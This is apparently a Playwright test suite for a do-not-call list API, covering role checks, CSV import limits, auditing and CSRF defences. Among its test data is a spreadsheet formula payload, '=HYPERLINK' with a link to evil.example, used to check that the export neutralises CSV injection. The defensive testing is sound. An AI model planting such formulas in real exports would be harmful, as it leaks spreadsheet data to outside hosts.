import { randomInt } from 'node:crypto';
import { expect, test, type APIRequestContext } from '@playwright/test';
import { uniqueNumber } from '../support/api';
import { cookieHeader, postEndlessChunked } from '../support/raw-http';
import { storageStatePath, testServer, type TestRole } from '../support/test-server';

// The do-not-call list over HTTP: adding (normalised, idempotent, refused with what to fix),
// importing a CSV (bad rows by line, 100,000 rows, the byte cap), removing (a reason and the
// Publisher role), exporting without formula injection — and the attacks on each.

type Entry = { number: string; source: string; reason: string | null; addedBy: string | null; addedByLabel: string | null; sessionId: string | null };
type Imported = { rows: number; added: number; alreadyListed: number; duplicates: number; invalid: Array<{ line: number; reason: string }>; invalidCount: number };
type Listed = { entries: Entry[]; total: number; page: number; pages: number; pageSize: number };

const csv = { 'Content-Type': 'text/csv' };
const pathOf = (number: string) => `/api/do-not-call/${encodeURIComponent(number)}`;

async function add(request: APIRequestContext, number: string, reason?: string) {
  const response = await request.post('/api/do-not-call', { data: { number, ...(reason !== undefined && { reason }) } });
  expect([200, 201], await response.text()).toContain(response.status());
  return { status: response.status(), ...((await response.json()) as { added: boolean; entry: Entry }) };
}

async function importCsv(request: APIRequestContext, text: string): Promise<Imported> {
  const response = await request.post('/api/do-not-call/import', { headers: csv, data: text });
  expect(response.status(), await response.text()).toBe(200);
  return (await response.json()) as Imported;
}

async function listed(request: APIRequestContext, q: string, extra = ''): Promise<Listed> {
  const response = await request.get(`/api/do-not-call?q=${encodeURIComponent(q)}${extra}`);
  expect(response.status(), await response.text()).toBe(200);
  return (await response.json()) as Listed;
}

/** A UK number block no other test uses: `${prefix}` + 4 digits is a possible +44 20 number. */
const londonBlock = () => `+4420${randomInt(1000, 9999)}`;

const routes: ReadonlyArray<readonly [method: 'get' | 'post' | 'delete', path: string, data?: unknown]> = [
  ['get', '/api/do-not-call'],
  ['get', '/api/do-not-call/export'],
  ['post', '/api/do-not-call', { number: '+6591234567' }],
  ['post', '/api/do-not-call/import', 'number\n+6591234567\n'],
  ['delete', pathOf('+6591234567'), { reason: 'x' }],
];

test.describe('a stranger', () => {
  test.use({ storageState: { cookies: [], origins: [] } });
  for (const [method, path, data] of routes) {
    test(`gets 401 on ${method.toUpperCase()} ${path}`, async ({ request }) => {
      const response = await request[method](path, data === undefined ? {} : { data, headers: typeof data === 'string' ? csv : {} });
      expect(response.status(), await response.text()).toBe(401);
    });
  }
});

test.describe('a viewer', () => {
  test.use({ storageState: storageStatePath('viewer') });
  test('reads and exports the list, and may not change it', async ({ request }) => {
    expect((await request.get('/api/do-not-call')).status()).toBe(200);
    expect((await request.get('/api/do-not-call/export')).status()).toBe(200);
    for (const [method, path, data] of routes.filter(([method]) => method !== 'get')) {
      const response = await request[method](path, { data, headers: typeof data === 'string' ? csv : {} });
      expect(response.status(), `${method.toUpperCase()} ${path}`).toBe(403);
      expect(((await response.json()) as { error: string }).error).toMatch(/Needs the (Editor|Publisher) role or higher: your role is viewer/);
    }
  });
});

test.describe('an editor', () => {
  test.use({ storageState: storageStatePath('editor') });
  test('adds and imports, but gets 403 removing — even with a reason — and the number stays', async ({ request }) => {
    const number = uniqueNumber();
    expect((await add(request, number, 'asked on the phone')).status).toBe(201);
    const imported = uniqueNumber();
    expect(await importCsv(request, `number\n${imported}\n`)).toMatchObject({ added: 1 });
    const refused = await request.delete(pathOf(number), { data: { reason: 'I want to call them' } });
    expect(refused.status()).toBe(403);
    expect(((await refused.json()) as { error: string }).error).toBe('Needs the Publisher role or higher: your role is editor');
    expect((await listed(request, number)).entries.map((e) => e.number)).toEqual([number]);
  });
});

test.describe('a publisher', () => {
  test.use({ storageState: storageStatePath('publisher' satisfies TestRole) });
  test('removes a number with a reason', async ({ request }) => {
    const number = uniqueNumber();
    await add(request, number);
    const removed = await request.delete(pathOf(number), { data: { reason: 'asked to be called again' } });
    expect(removed.status(), await removed.text()).toBe(204);
    expect((await listed(request, number)).total).toBe(0);
  });
});

test('adding normalises the number, keeps the first entry of a listed one, and says who added it', async ({ request }) => {
  const number = uniqueNumber();
  const spaced = `${number.slice(0, 3)} ${number.slice(3, 7)} ${number.slice(7)}`;
  const first = await add(request, spaced, 'asked on the phone');
  expect(first).toMatchObject({ status: 201, added: true, entry: { number, source: 'manual', reason: 'asked on the phone', addedByLabel: testServer.admin.email, sessionId: null } });
  const again = await add(request, number.slice(1), 'a second time');
  expect(again).toMatchObject({ status: 200, added: false, entry: { number, reason: 'asked on the phone' } });
  const audit = await request.get(`/api/audit?action=dnc.add&targetId=${encodeURIComponent(number)}`);
  expect(((await audit.json()) as { entries: unknown[] }).entries).toHaveLength(1);
});

test('a bad number or reason is a 422 that says what to fix, and nothing is added', async ({ request }) => {
  const cases: Array<[unknown, RegExp]> = [
    [{ number: '12345' }, /^number: 12345 is not an international number: give \+ and the country code/],
    [{ number: '91234567' }, /^number: 91234567 is too short for its country/],
    [{ number: '+65 9123 4567 ext 2' }, /^number: .* has characters a phone number cannot have/],
    [{ number: '=HYPERLINK("http://evil.example")' }, /^number: .* has characters a phone number cannot have/],
    [{}, /^number: required/],
    [{ number: 6591234567 }, /^number: number must be a phone number/],
    [{ number: uniqueNumber(), reason: 'x'.repeat(501) }, /^reason: reason is at most 500 characters/],
    [{ number: uniqueNumber(), extra: 1 }, /extra/],
  ];
  for (const [data, message] of cases) {
    const response = await request.post('/api/do-not-call', { data });
    expect(response.status(), JSON.stringify(data)).toBe(422);
    expect(((await response.json()) as { error: string }).error).toMatch(message);
  }
  expect((await listed(request, '91234567')).entries.filter((e) => e.number === '+91234567')).toEqual([]);
});

test('an import reports each bad row by the line it starts on, counts duplicates and listed numbers, and is audited once', async ({ request }) => {
  const [listedBefore, first, second] = [uniqueNumber(), uniqueNumber(), uniqueNumber()];
  await add(request, listedBefore, 'by hand');
  const file = [
    'Name,Phone,Reason', // 1
    `Ada,${first},"asked twice`, // 2
    `on the phone"`, // 3
    'Bob,not a number,x', // 4
    '', // 5
    `Cy,${listedBefore},again`, // 6
    `Di,${first},dup`, // 7
    'Ed,,no number', // 8
    `Fay,"${second}",`, // 9
  ].join('\r\n');
  const result = await importCsv(request, file);
  expect(result).toEqual({
    rows: 6,
    added: 2,
    alreadyListed: 1,
    duplicates: 1,
    invalid: [
      { line: 4, reason: expect.stringContaining('not a number has characters a phone number cannot have') },
      { line: 8, reason: 'no number in the "Phone" column' },
    ],
    invalidCount: 2,
    numberColumn: { index: 1, name: 'Phone' },
  });
  const entries = (await listed(request, first)).entries;
  expect(entries).toEqual([expect.objectContaining({ number: first, source: 'import', reason: 'asked twice on the phone', addedByLabel: testServer.admin.email })]);
  expect((await listed(request, listedBefore)).entries[0]).toMatchObject({ source: 'manual', reason: 'by hand' });
  const audit = (await (await request.get(`/api/audit?action=dnc.import&q=${encodeURIComponent('2 added, 1 already listed, 1 duplicates, 2 bad rows (6 rows')}`)).json()) as {
    entries: Array<{ actorLabel: string; details: Record<string, unknown> }>;
  };
  expect(audit.entries[0]).toMatchObject({ actorLabel: testServer.admin.email, details: { rows: 6, added: 2, alreadyListed: 1, duplicates: 1, invalid: 2 } });
});

test('an import of 100,000 rows completes with exact counts, listing the first 1,000 bad rows', async ({ request }) => {
  test.setTimeout(180_000);
  const block = `+447${randomInt(100, 999)}`;
  const lines = ['number,reason'];
  for (let i = 0; i < 98_300; i += 1) lines.push(`${block}${String(i).padStart(6, '0')},bulk`);
  for (let i = 0; i < 500; i += 1) lines.push(`${block}${String(i).padStart(6, '0')},repeat`);
  for (let i = 0; i < 1_200; i += 1) lines.push(`bad-${i},x`);
  const result = await importCsv(request, `${lines.join('\n')}\n`);
  expect(result).toMatchObject({ rows: 100_000, added: 98_300, alreadyListed: 0, duplicates: 500, invalidCount: 1_200 });
  expect(result.invalid).toHaveLength(1_000);
  // Line 1 is the header: the first bad row is line 1 + 98,300 + 500 + 1.
  expect(result.invalid[0]).toEqual({ line: 98_802, reason: expect.stringContaining('bad-0') });
  expect((await listed(request, block, '&pageSize=1')).total).toBe(98_300);
});

test('an import refuses what it cannot read: no numbers 422, not CSV 415, past 16 MiB 413', async ({ request }) => {
  const empty = await request.post('/api/do-not-call/import', { headers: csv, data: 'number,reason\n' });
  expect(empty.status()).toBe(422);
  expect(((await empty.json()) as { error: string }).error).toMatch(/header row but no numbers/);

  // With the session cookie, the CSRF rule refuses any other body type first (the route's own 415 answers tokens).
  const json = await request.post('/api/do-not-call/import', { data: { number: uniqueNumber() } });
  expect(json.status()).toBe(403);
  expect(((await json.json()) as { error: string }).error).toBe('Send the CSV as text/csv (got application/json)');

  // A body that never ends is cut off once past 16 MiB, while it streams.
  test.setTimeout(90_000);
  const answer = await postEndlessChunked('/api/do-not-call/import', { Cookie: await cookieHeader(request), 'Content-Type': 'text/csv' }, 64 * 1024 * 1024);
  expect(answer.status, answer.body).toBe(413);
  expect(JSON.parse(answer.body)).toMatchObject({ code: 'payload_too_large', error: expect.stringMatching(/larger than 16 MiB/) });
  expect(answer.sent).toBeGreaterThan(16 * 1024 * 1024);
  expect(answer.sent).toBeLessThan(48 * 1024 * 1024);
});

test('a cross-site page cannot import or add with the session cookie', async ({ request }) => {
  const number = uniqueNumber();
  const evil = await request.post('/api/do-not-call/import', { headers: { ...csv, Origin: 'http://evil.example' }, data: `number\n${number}\n` });
  expect(evil.status()).toBe(403);
  // text/plain is what an HTML form of another site can send without a preflight.
  const plain = await request.post('/api/do-not-call/import', { headers: { 'Content-Type': 'text/plain' }, data: `number\n${number}\n` });
  expect(plain.status()).toBe(403);
  expect(((await plain.json()) as { error: string }).error).toMatch(/Send the CSV as text\/csv \(got text\/plain\)/);
  expect((await listed(request, number)).total).toBe(0);
});

test('removing needs a reason, keeps the number until given one, and the audit log keeps who and why', async ({ request }) => {
  const number = uniqueNumber();
  await add(request, number, 'asked on the phone');
  for (const [options, message] of [
    [{}, 'reason: required'],
    [{ data: { reason: '   ' } }, /^reason: give the reason for removing the number/],
  ] as const) {
    const response = await request.delete(pathOf(number), options);
    expect(response.status()).toBe(422);
    expect(((await response.json()) as { error: string }).error).toMatch(message);
  }
  expect((await listed(request, number)).total).toBe(1);

  const removed = await request.delete(pathOf(number), { data: { reason: 'customer asked to be called again' } });
  expect(removed.status(), await removed.text()).toBe(204);
  expect((await listed(request, number)).total).toBe(0);
  expect((await request.delete(pathOf(number), { data: { reason: 'again' } })).status()).toBe(404);
  expect((await request.delete('/api/do-not-call/12', { data: { reason: 'x' } })).status()).toBe(422);

  const audit = (await (await request.get(`/api/audit?action=dnc.remove&targetId=${encodeURIComponent(number)}`)).json()) as {
    entries: Array<Record<string, unknown>>;
  };
  expect(audit.entries).toEqual([
    expect.objectContaining({
      actorLabel: testServer.admin.email,
      targetType: 'number',
      targetId: number,
      summary: `Removed ${number} from the do-not-call list: “customer asked to be called again”`,
      details: { reason: 'customer asked to be called again', entry: expect.objectContaining({ source: 'manual', reason: 'asked on the phone' }) },
    }),
  ]);
});

test('the list pages newest first and searches by the start of a number, however typed', async ({ request }) => {
  const block = londonBlock();
  await importCsv(request, Array.from({ length: 25 }, (_, i) => `${block}${String(i).padStart(4, '0')}`).join('\n'));
  const spaced = `${block.slice(0, 3)} ${block.slice(3, 5)} ${block.slice(5)}`;
  const page1 = await listed(request, spaced, '&pageSize=20');
  const page2 = await listed(request, block.slice(1), '&pageSize=20&page=2');
  expect(page1).toMatchObject({ total: 25, pages: 2, page: 1, pageSize: 20 });
  expect(page1.entries).toHaveLength(20);
  expect(new Set([...page1.entries, ...page2.entries].map((e) => e.number)).size).toBe(25);
  for (const [query, message] of [
    ['?q=abc', /^q: q is the start of a number/],
    ['?pageSize=201', /pageSize is at most 200/],
    ['?page=0', /page starts at 1/],
  ] as const) {
    const response = await request.get(`/api/do-not-call${query}`);
    expect(response.status()).toBe(422);
    expect(((await response.json()) as { error: string }).error).toMatch(message);
  }
});

test('the export neutralises a formula in a reason (CSV injection) and reads back as an import', async ({ request }) => {
  const number = uniqueNumber();
  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';
  await add(request, number, formula);
  const response = await request.get(`/api/do-not-call/export?q=${encodeURIComponent(number)}`);
  expect(response.status()).toBe(200);
  expect(response.headers()['content-type']).toBe('text/csv; charset=utf-8');
  expect(response.headers()['content-disposition']).toMatch(/^attachment; filename="do-not-call-\d{4}-\d{2}-\d{2}\.csv"$/);
  const text = await response.text();
  const [header, row, end] = text.split('\r\n');
  expect(header).toBe('number,source,reason,added_at,added_by,added_by_id,session_id');
  expect(row).toMatch(new RegExp(`^'\\${number},manual,"'=HYPERLINK\\(""http://evil.example/\\?x=""&A1,""Click for details""\\)",`));
  expect(end).toBe('');
  // No cell of the row starts with a formula character.
  expect(row!.split(',').filter((cell) => /^"?[=+\-@]/.test(cell))).toEqual([]);

  const removed = await request.delete(pathOf(number), { data: { reason: 'round trip' } });
  expect(removed.status()).toBe(204);
  expect(await importCsv(request, text)).toMatchObject({ rows: 1, added: 1, invalidCount: 0 });
  expect((await listed(request, number)).entries[0]).toMatchObject({ source: 'import', reason: formula });
});
